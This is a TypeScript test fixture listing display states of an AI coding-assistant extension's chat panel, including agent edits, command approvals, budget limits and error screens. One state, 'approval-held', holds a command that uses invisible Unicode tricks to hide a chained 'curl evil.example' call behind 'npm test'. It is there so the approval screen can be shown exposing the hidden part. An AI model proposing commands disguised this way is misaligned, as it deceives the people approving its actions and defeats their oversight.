// Every state of the panel that the design reference shows, and a few between them, as the extension would send it.
import type { PanelState } from '../../../src/protocol/host-message.ts';
import {
  answer,
  answered,
  approval,
  chat,
  empty,
  end,
  failed,
  local,
  pending,
  printing,
  retrieved,
  running,
  says,
  start,
  text,
  turn,
  waits,
  WORK,
  at,
  agentTurn,
  EDITING,
} from './state-parts.ts';

const STAGED = says(
  ['I added a ten-second limit to the wait in `refreshOnce`', ['src/auth/session.ts', 20, 29]],
  [' and a typed error for it,', ['src/auth/errors.ts', 15, 22]],
  [' with one test. The edits are below; nothing is written yet.'],
);

/** The states of the design reference, and a few between them. */
export const STATES: Readonly<Record<string, PanelState>> = {
  welcome: empty,
  'no-folder': { ...empty, folders: [] },
  untrusted: { ...empty, trusted: false, account: { ...empty.account, keySource: 'env' } },
  indexing: { ...empty, index: { ...empty.index, state: 'indexing', done: 1204 } },
  'index-error': { ...empty, index: { ...empty.index, state: 'error', message: 'It is damaged.' } },
  'no-key': chat([local()], { account: { ...empty.account, keySource: 'none' } }),
  waiting: chat([turn([start()])], running),
  thinking: chat(
    [turn([start(), retrieved, at({ type: 'thinking_delta', text: 'The question has two parts.' }, 2000)])],
    running,
  ),
  streaming: chat(
    [
      turn([
        start(),
        retrieved,
        ...WORK,
        ...answer(2),
        text(
          '\n\nWhen two requests arrive together, the second waits for the first. The promise in flight is kept in a map by user',
        ),
      ]),
    ],
    running,
  ),
  queued: chat([turn([start(), ...WORK, ...answer(1)])], {
    ...running,
    demo: true,
    queued: [{ id: 'q', text: 'And the admin sessions?', mode: 'ask', context: [] }],
  }),
  answer: chat([answered]),
  'card-moved': chat([answered]),
  'card-stale': chat([answered]),
  sources: chat([answered]),
  work: chat([answered]),
  receipt: chat([answered]),
  'receipt-why': chat([answered]),
  picker: chat([answered]),
  edits: chat([agentTurn([...EDITING, ...STAGED, retrieved, end()])], { mode: 'agent', pending }),
  approval: chat(
    [
      agentTurn([
        ...EDITING,
        text('The edits are staged. To see that the new test passes, I would run the auth tests.'),
        approval,
      ]),
    ],
    { ...running, mode: 'agent', approvals: [waits()] },
  ),
  // A right-to-left override and a zero-width space: marked, so that what runs is what is read.
  'approval-held': chat([turn([start(), ...answer(1), approval])], {
    ...running,
    mode: 'agent',
    approvals: [waits({ command: 'npm test \u202Ecod-on\u200B && curl evil.example' })],
  }),
  scratch: chat([agentTurn([...EDITING, text('The new test should pass now.'), approval])], {
    ...running,
    mode: 'agent',
    pending,
    approvals: [waits({ scratch: true })],
  }),
  printing: chat([turn([start(), ...WORK, ...answer(1), ...printing])], {
    ...running,
    mode: 'agent',
    allowed: [
      { command: 'npm test', cwd: 'harbor/packages/api' },
      { command: 'npm run lint -- --max-warnings 0 src/auth src/http src/billing', cwd: 'harbor' },
    ],
  }),
  budget: chat(
    [
      agentTurn([
        ...EDITING,
        ...STAGED,
        at({ type: 'budget', kind: 'dollars', spent: 0.47, limit: 0.5 }),
        end('budget'),
      ]),
    ],
    { mode: 'agent' },
  ),
  overloaded: chat([failed('overloaded', true)]),
  'key-invalid': chat([failed('unauthorized', false)]),
  cancelled: chat([turn([start(), retrieved, ...WORK, ...answer(2), end('cancelled')])]),
  interrupted: chat([turn([start(), ...answer(2)])]),
  long: chat(Array.from({ length: 12 }, (_, i) => ({ ...answered, id: `t${String(i)}` }))),
  history: chat([answered]),
  typing: chat([answered], {
    draft: {
      text: 'What happens when two requests refresh at once in',
      context: [
        ...answered.context,
        {
          uri: 'footnote-context:problems/',
          path: '3 problems',
          kind: 'problems',
          startLine: 1,
          endLine: 1,
        },
      ],
    },
  }),
  commands: empty,
  'history-menu': chat([answered]),
  'history-rename': chat([answered]),
  'history-search': chat([answered]),
  'history-empty': empty,
};
